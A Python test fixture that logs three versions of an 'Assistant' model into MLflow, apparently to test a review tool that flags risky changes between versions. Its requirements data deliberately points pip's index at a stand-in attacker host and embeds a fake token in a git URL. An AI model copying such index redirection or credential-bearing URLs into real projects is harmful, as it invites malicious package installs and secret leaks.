"""A model whose versions carry what a reviewer must see: pip options, signature params, JSON tags.

`assistant_store(tracking_uri, folder)` logs the "Assistant" model into a real MLflow
server with MLflow's own client (once per server), captures each version with
`snap capture ... -o folder/assistant-vN.json`, and returns
`{"files": {version: Path}, "docs": {version: document}}`. Nothing is mocked: each model's
files are written by `mlflow.pyfunc.save_model`, then its requirements.txt replaced
by the one a team's build would write, and logged inside its run (MLflow 2's layout,
as many registries hold them).

Versions (requirements.txt, in full, is `REQUIREMENTS[v]`):
- 1: `--index-url https://example.invalid/simple`, a hashed numpy, a private git
  package whose URL carries a token, pandas `>= 2.0, < 3`; params temperature=0.7,
  max_tokens=16 (long), stop=["\\n"] (a list); accuracy 0.90.
- 2: the same file with the index moved to https://attacker.invalid/simple, nothing
  else in requirements.txt changed; accuracy 0.901.
- 3: adds `--extra-index-url https://mirror.invalid/simple`, writes pandas as
  `pandas<3,>=2.0` (the same requirement), moves the git package to v1.1;
  max_tokens's default becomes the string "16"; a version tag `reviewed` set to "";
  accuracy 0.902.
Every run has the JSON-valued tag `config` = `{"a": 1}` and 30 files under `notes/`.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.commands import snap

NAME = "Assistant"
TOKEN = "s3cr3tT0kenXY"  # short: only the rule that any userinfo of a URL is a credential catches it
_GIT = "private-pkg @ git+https://" + TOKEN + "@gitlab.example.invalid/org/private-pkg.git@{ref}"
_NUMPY = "numpy==1.26.4 --hash=sha256:" + "ab" * 32
REQUIREMENTS = {
    "1": ["--index-url https://example.invalid/simple", "mlflow==3.17.2", "pandas >= 2.0, < 3", _NUMPY,
          _GIT.format(ref="v1.0")],
    "2": ["--index-url https://attacker.invalid/simple", "mlflow==3.17.2", "pandas >= 2.0, < 3", _NUMPY,
          _GIT.format(ref="v1.0")],
    "3": ["--index-url https://attacker.invalid/simple", "--extra-index-url https://mirror.invalid/simple",
          "mlflow==3.17.2", "pandas<3,>=2.0", _NUMPY, _GIT.format(ref="v1.1")],
}
ACCURACY = {"1": 0.90, "2": 0.901, "3": 0.902}
RUN_FILES = 30
_CACHE: dict[str, dict] = {}


def _signature(max_tokens_default):
    from mlflow.models import ModelSignature
    from mlflow.types import ColSpec, ParamSchema, ParamSpec, Schema

    return ModelSignature(
        inputs=Schema([ColSpec("string", "text")]),
        outputs=Schema([ColSpec("string", "answer"), ColSpec("double", "score")]),
        params=ParamSchema([
            ParamSpec("temperature", "double", 0.7),
            ParamSpec("max_tokens", "long" if isinstance(max_tokens_default, int) else "string", max_tokens_default),
            ParamSpec("stop", "string", ["\n"], shape=(-1,)),
        ]),
    )


def _log_version(client, experiment_id: str, version: str, folder: Path) -> None:
    import mlflow

    from tests.support.registry import _echo_model_class

    model_dir = folder / f"v{version}" / "model"
    mlflow.pyfunc.save_model(str(model_dir), python_model=_echo_model_class()(),
                             signature=_signature(16 if version != "3" else "16"),
                             pip_requirements=["mlflow==3.17.2"])
    (model_dir / "requirements.txt").write_text("\n".join(REQUIREMENTS[version]) + "\n")
    notes = folder / f"v{version}" / "notes"
    notes.mkdir()
    for i in range(RUN_FILES):
        (notes / f"note-{i:02d}.txt").write_text(f"note {i}\n")
    run = client.create_run(experiment_id, run_name=f"assistant-v{version}")
    run_id = run.info.run_id
    client.log_metric(run_id, "accuracy", ACCURACY[version])
    client.set_tag(run_id, "config", json.dumps({"a": 1}))
    client.log_artifacts(run_id, str(model_dir), "model")
    client.log_artifacts(run_id, str(notes), "notes")
    client.set_terminated(run_id)
    mv = client.create_model_version(NAME, f"{run.info.artifact_uri}/model", run_id=run_id)
    assert str(mv.version) == version
    if version == "3":
        client.set_model_version_tag(NAME, "3", "reviewed", "")


def assistant_store(tracking_uri: str, folder: Path) -> dict:
    """{"files": {version: Path}, "docs": {version: document}} of Assistant v1-v3, captured once per server."""
    if tracking_uri in _CACHE:
        return _CACHE[tracking_uri]
    from mlflow import MlflowClient

    client = MlflowClient(tracking_uri, registry_uri=tracking_uri)
    experiment_id = client.create_experiment("assistant-experiment")
    client.create_registered_model(NAME)
    for version in ("1", "2", "3"):
        _log_version(client, experiment_id, version, folder)
    files, docs = {}, {}
    for version in ("1", "2", "3"):
        files[version] = folder / f"assistant-v{version}.json"
        snap("capture", f"models:/{NAME}/{version}", "--tracking-uri", tracking_uri, "-o", str(files[version]))
        docs[version] = json.loads(files[version].read_text())
    _CACHE[tracking_uri] = {"files": files, "docs": docs}
    return _CACHE[tracking_uri]
